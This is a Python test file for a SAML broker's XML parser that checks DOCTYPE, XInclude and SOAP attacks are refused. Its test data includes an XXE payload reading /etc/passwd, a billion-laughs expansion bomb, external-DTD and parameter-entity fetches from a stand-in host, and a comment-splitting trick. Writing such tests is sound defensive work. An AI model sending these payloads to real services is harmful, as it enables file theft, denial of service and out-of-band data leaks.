"""Parser attacks (attack catalogue §3.3): refused before any expansion or network access."""

from __future__ import annotations

import time
from typing import Any

import pytest

from broker.saml import soap
from broker.saml.xml import SamlError, full_text, parse_xml

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<r>&e;</r>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b'<!DOCTYPE r PUBLIC "x" "http://collab.invalid/x.dtd"><r/>'
PARAMETER_ENTITY = (
    b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://collab.invalid/p"> %p;]><r/>'
)


@pytest.mark.parametrize(
    "payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_doctype_payloads_refused_without_expansion(payload: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(SamlError, match="DOCTYPE"):
        parse_xml(payload)
    assert time.monotonic() - started < 1


def test_doctype_hidden_in_utf16_refused() -> None:
    with pytest.raises(SamlError):
        parse_xml(XXE.replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16"))


def test_doctype_inside_soap_envelope_refused() -> None:
    envelope = (
        b'<!DOCTYPE s [<!ENTITY e "x">]><s:Envelope '
        b'xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><a>&e;</a></s:Body>'
        b"</s:Envelope>"
    )
    with pytest.raises(SamlError):
        soap.unwrap(envelope)


def test_oversized_document_refused() -> None:
    with pytest.raises(SamlError, match="too large"):
        parse_xml(b"<r>" + b"a" * (600 * 1024) + b"</r>")


def test_malformed_xml_refused() -> None:
    with pytest.raises(SamlError, match="well-formed"):
        parse_xml(b"<r><unclosed></r>")


def test_xinclude_not_processed() -> None:
    root = parse_xml(
        b'<r xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/></r>'
    )
    assert full_text(root) == ""


def test_full_text_ignores_comments_and_joins_text_nodes() -> None:
    root = parse_xml(b"<n>s00000000:999999990<!---->1</n>")
    assert root.text == "s00000000:999999990"  # what a naive reader sees
    assert full_text(root) == "s00000000:9999999901"


def test_soap_fault_refused() -> None:
    fault = (
        b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><s:Fault>'
        b"<faultcode>s:Server</faultcode></s:Fault></s:Body></s:Envelope>"
    )
    with pytest.raises(SamlError, match="Fault"):
        soap.unwrap(fault)


def test_soap_body_with_two_elements_refused(kit: Any) -> None:
    two = (
        b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><a/><b/>'
        b"</s:Body></s:Envelope>"
    )
    with pytest.raises(SamlError):
        soap.unwrap(two)


def test_soap_wrap_unwrap_round_trip() -> None:
    inner = parse_xml(b'<x:m xmlns:x="urn:x" ID="_1"/>')
    assert soap.unwrap(soap.wrap(inner)).get("ID") == "_1"
